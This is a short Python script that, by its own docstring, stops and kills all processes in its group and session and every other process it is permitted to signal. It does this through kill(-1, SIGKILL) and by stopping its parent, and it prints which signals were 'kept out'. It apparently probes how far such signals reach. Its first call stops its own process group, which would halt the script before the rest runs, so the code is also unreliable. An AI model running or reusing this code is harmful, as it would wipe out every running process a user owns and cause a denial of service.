"""Stops and kills all processes of its group and session, and all that it may."""

import os
import signal

os.kill(0, signal.SIGSTOP)
os.killpg(0, signal.SIGTSTP)
for process, number in ((-1, signal.SIGSTOP), (-1, signal.SIGKILL), (os.getppid(), signal.SIGSTOP)):
    try:
        os.kill(process, number)
    except OSError as error:
        print(f"kept out: {error!r}")
print("there is still", os.getpid())
